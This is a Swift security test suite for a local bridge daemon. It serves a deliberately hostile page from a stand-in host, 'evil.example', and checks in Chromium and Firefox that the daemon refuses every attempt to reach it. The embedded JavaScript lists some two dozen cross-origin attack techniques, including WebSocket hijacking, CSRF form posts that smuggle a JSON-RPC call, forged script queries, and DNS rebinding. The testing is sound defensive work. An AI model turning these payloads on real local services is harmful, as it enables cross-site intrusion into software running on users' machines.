import BridgeProtocol
import BridgeServer
import BridgeTesting
import BridgeTraffic
import Foundation
import TestSupport
import Testing

/// Opens a page of an unknown site in a real browser. The page tries every way to reach the daemon (docs/security.md).
@MainActor @Suite(.serialized, .timeLimit(.minutes(2)), .browserTurns) struct ForeignSiteTests {
    /// A host name that anybody could own and that resolves to this machine, as in DNS rebinding.
    private static let name = "evil.example"

    /// A page that makes one attempt after the other and reports each result to its own site: `nothing`, or what it
    /// got.
    private static func page(_ daemon: String) -> String {
        """
        <!DOCTYPE html><meta charset="utf-8"><title>Evil</title><iframe name="frame"></iframe><script>
        const daemon = "\(daemon)"
        const socket = (path, protocols) => new Promise((resolve) => {
          const socket = new WebSocket(daemon.replace("http", "ws") + path, protocols)
          socket.onopen = () => resolve("open")
          socket.onclose = () => resolve("nothing")
        })
        const read = async (path, options) => {
          try {
            const response = await fetch(daemon + path, options)
            return response.type == "opaque" ? "nothing" : await response.text()
          } catch {
            return "nothing"
          }
        }
        const script = (path, referrerPolicy = "") => new Promise((resolve) => {
          const script = document.createElement("script")
          script.referrerPolicy = referrerPolicy
          script.src = daemon + path
          script.onload = () => resolve(window.webkit ? "the bridge" : "a script")
          script.onerror = () => resolve("nothing")
          document.head.append(script)
        })
        const call = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "pages.list" })
        const beacon = JSON.stringify({ document: "d-1", messages: [] })
        const form = (path) => new Promise((resolve) => {
          const form = document.createElement("form")
          Object.assign(form, { action: daemon + path, method: "post", enctype: "text/plain", target: "frame" })
          const input = document.createElement("input")
          Object.assign(input, { name: call.slice(0, -1) + ', "x": "', value: '"}' })
          form.append(input)
          document.body.append(form)
          document.querySelector("iframe").onload = () => resolve("nothing")
          form.submit()
        })
        const frame = (path) => new Promise((resolve) => {
          const frame = document.createElement("iframe")
          frame.src = daemon + path
          frame.onload = () => {
            try { resolve(frame.contentDocument?.title || "nothing") } catch { resolve("nothing") }
          }
          document.body.append(frame)
        })
        const attempts = {
          attach: () => socket("page", "bridge.page.v1"),
          control: () => socket("control", ["bridge.control.v1", "bridge.token.00000000000000000000000000000000"]),
          script: () => script("bridge.js"),
          guess: () => script("bridge.js?token=00000000000000000000000000000000"),
          rpc: () => read("rpc", { method: "POST", body: call, headers: { "Content-Type": "application/json" } }),
          blind: () => read("rpc", { method: "POST", body: call, mode: "no-cors" }),
          traffic: () => read("traffic"),
          metrics: () => read("metrics"),
          beacon: () => read("beacon", { method: "POST", body: beacon, mode: "no-cors" }),
          left: () => navigator.sendBeacon(daemon + "beacon", beacon) && "nothing",
          form: () => form("rpc"),
          leave: () => form("beacon"),
          demo: () => frame("demo/"),
          object: () => read("call", { method: "POST", body: beacon, headers: { "Content-Type": "application/json" } }),
          blindly: () => read("call", { method: "POST", body: beacon, mode: "no-cors" }),
          document: () => frame("document?web-view=main"),
          raw: () => frame("openrpc.json"),
          forge: () => script("bridge.js?blocked=script-src&from=FORGED"),
          hidden: () => script("bridge.js?blocked=script-src&from=FORGED", "no-referrer"),
          framed: () => frame("bridge.js?blocked=script-src&from=FORGED"),
          embedded: () => read("bridge.js?blocked=script-src&from=FORGED", { mode: "no-cors", referrerPolicy: "no-referrer" }),
          worker: () => new Promise((resolve) => {
            const code = `importScripts("${daemon}bridge.js"); postMessage("a script")`
            const worker = new Worker(URL.createObjectURL(new Blob([code])))
            worker.onmessage = ({ data }) => resolve(data)
            worker.onerror = () => resolve("nothing")
          }),
          stream: () => new Promise((resolve) => {
            const source = new EventSource(daemon + "traffic?follow=1")
            source.onopen = () => resolve("a stream")
            source.onerror = () => { source.close(); resolve("nothing") }
          }),
          window: () => open(daemon + "demo/", "_blank", "popup") && "nothing",
          anonymous: () => (open(daemon + "demo/", "_blank", "noreferrer,popup"), "nothing"),
          empty: () => open(daemon + "document?web-view=main", "_blank", "popup") && "nothing",
          fields: () => {
            const form = document.createElement("form")
            Object.assign(form, { action: daemon + "demo/", method: "get", target: "_blank" })
            document.body.append(form)
            form.submit()
            return "nothing"
          },
        }
        const run = async () => {
          for (const name in attempts) {
            const result = await attempts[name]()
            await fetch("/report?" + new URLSearchParams({ name, result }))
          }
          fetch("/report?name=end")
        }
        run()
        </script>
        """
    }

    @Test(arguments: [Browser.Engine.chromium, .firefox].tried)
    func everyAttempt_isRefused(_ engine: Browser.Engine) async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let (reports, continuation) = AsyncStream<String>.makeStream()
            let site = try PostingSite(Self.page(address.url.replacing("127.0.0.1", with: "localhost"))) { path in
                if path.hasPrefix("/report?") { continuation.yield(path) }
            }
            let browser = try launch(
                engine, site.url.replacing("127.0.0.1", with: Self.name), localNames: [Self.name])
            var results: [String] = []
            for await line in reports {
                if line.contains("name=end") { break }
                results.append(String(line.dropFirst("/report?name=".count)))
            }
            #expect(results.count == 27)
            #expect(results.allSatisfy { $0.hasSuffix("&result=nothing") }, "\(results)")
            // The four windows load after the attempts that open them.
            // Only the first problems have records.
            try await waitUntil { recorder.count("navigationNotAllowed", server) >= 8 }
            #expect(recorder.count("originNotAllowed", server) >= 14)
            for record in recorder.records {
                guard case .problem(let code, let text, _, _, _) = record.event else { continue }
                #expect(code != "policy" && !text.contains("FORGED"))
            }
            #expect(server.pages.isEmpty)
            browser.close()
        }
    }

    /// A person who comes from another site may go on, by a link on the daemon's own page.
    @Test func personGoesOn_onlyByTheDaemonsOwnLink() async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let demo = "\(address.url)demo/"
            let site = try PostingSite("<!DOCTYPE html><script>location = '\(demo)'</script>")
            let browser = try launch(
                .chromium, site.url.replacing("127.0.0.1", with: Self.name), arguments: DevTools.arguments,
                localNames: [Self.name])
            _ = try await recorder.problem("navigationNotAllowed")
            #expect(server.pages.isEmpty)
            try await DevTools(browser, tab: demo).clickFirstLink()
            _ = try await recorder.first { if case .page(.attached) = $0.event { true } else { false } }
            #expect(server.pages.first?.url == demo)
            browser.close()
        }
    }

    /// The attacker's host name resolves to this machine, so the page and the daemon have the same origin.
    @Test(arguments: [Browser.Engine.chromium, .firefox].tried)
    func page_isRefused_ifItsHostNameResolvesToThisMachine(_ engine: Browser.Engine) async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let url = "http://\(Self.name):\(address.port)/demo/"
            let browser = try launch(engine, url, localNames: [Self.name])
            let problem = try await recorder.problem("hostNotAllowed")
            #expect(problem.text.contains("\(Self.name):\(address.port)"))
            #expect(problem.hint?.contains("\"http://\(Self.name)\" in Configuration.allowedOrigins") == true)
            #expect(server.pages.isEmpty)
            browser.close()
        }
    }
}

extension Recorder {
    /// How often a problem has happened. Only the first ones have records of their own.
    fileprivate func count(_ code: String, _ server: BridgeServer) -> Int {
        server.traffic.countRepeatedProblems()
        return records.reduce(0) { sum, record in
            guard case .problem(code, _, _, _, let count) = record.event else { return sum }
            return sum + (count ?? 1)
        }
    }
}
